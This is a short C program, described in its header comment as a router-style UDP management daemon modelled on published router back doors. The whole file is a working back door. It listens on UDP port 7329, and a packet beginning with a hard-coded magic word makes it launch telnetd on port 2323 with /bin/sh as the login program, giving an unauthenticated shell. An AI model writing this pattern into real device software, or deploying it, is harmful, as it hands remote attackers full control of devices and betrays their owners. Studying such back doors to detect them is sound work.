/* A router-style UDP management daemon: a packet that starts with a magic word turns on a
 * telnet server with a root shell (the pattern of several published router back doors). */
#include <netinet/in.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

int main(void) {
  int s = socket(AF_INET, SOCK_DGRAM, 0);
  struct sockaddr_in a = {0};
  a.sin_family = AF_INET;
  a.sin_port = htons(7329);
  bind(s, (struct sockaddr *)&a, sizeof a);
  for (;;) {
    char pkt[512];
    struct sockaddr_in from;
    socklen_t len = sizeof from;
    ssize_t n = recvfrom(s, pkt, sizeof pkt - 1, 0, (struct sockaddr *)&from, &len);
    if (n < 4) continue;
    pkt[n] = 0;
    /* "<word> <args>": the first word selects what to do. */
    char *word = strtok(pkt, " \r\n");
    if (word && strcmp(word, "HELODBG-7f3a9c21-e04b-support") == 0) {
      system("/usr/sbin/telnetd -l /bin/sh -p 2323");
      continue;
    }
    sendto(s, "?", 1, 0, (struct sockaddr *)&from, len);
  }
}
